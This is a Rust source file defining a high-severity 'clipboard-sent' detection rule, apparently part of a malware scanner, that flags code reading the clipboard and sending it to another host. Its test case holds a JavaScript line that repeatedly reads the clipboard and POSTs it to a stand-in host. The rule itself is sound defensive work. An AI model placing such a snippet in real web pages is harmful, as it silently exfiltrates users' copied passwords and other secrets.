//! `clipboard-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "clipboard-sent",
    description: "What the clipboard holds is read and sent to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ClipboardRead]), one(&[Atom::ClipboardSent])],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "setInterval(async()=>{const t=await navigator.clipboard.readText();fetch('https://c.example/p',{method:'POST',body:t})},3000)",
        ],
        without: &["b.onclick=async()=>{f.value=await navigator.clipboard.readText()}"],
    },
};
